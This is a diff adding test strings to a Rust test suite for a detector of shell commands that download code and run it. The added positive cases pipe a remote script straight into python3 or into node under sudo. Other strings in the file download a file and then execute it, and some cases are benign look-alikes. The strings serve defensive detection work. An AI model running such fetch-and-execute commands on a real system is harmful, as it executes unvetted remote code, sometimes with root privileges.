@@ -36,6 +36,8 @@ fn a_download_that_is_saved_and_run_is_found_however_it_is_written() {
         "bash a\ncurl -o a https://e.example/x",
         "$ curl -o a https://e.example/x\n$ bash a",
         "curl -o ~/.local/bin/helper https://e.example/x && chmod +x ~/.local/bin/helper && helper",
+        "curl -s https://e.example/x | python3 -",
+        "wget -qO- https://e.example/x | sudo node",
         "eval \"$(cat a)\"; curl -o a https://e.example/x",
         "U=https://e.example; curl -o a \"$U/x\"; sh a",
         "curl -o a https://get.docker.com https://e.example/x; sh a",
@@ -63,6 +65,9 @@ fn a_download_that_nothing_runs_is_none() {
         "curl -o x https://e.example/x; python3 y.py < x",
         "curl -o x https://e.example/x; N=$(sed -n 1p x); python3 y.py \"$N\"",
         "U=https://get.docker.com; curl -o a \"$U\"; sh a",
+        "curl -s https://e.example/x | python3 -m json.tool",
+        "curl -s https://e.example/x | python3 -c 'import json'",
+        "curl -s https://install.python-poetry.org | python3 -",
         "curl -X POST https://e.example/x; bash x",
         "",
     ] {
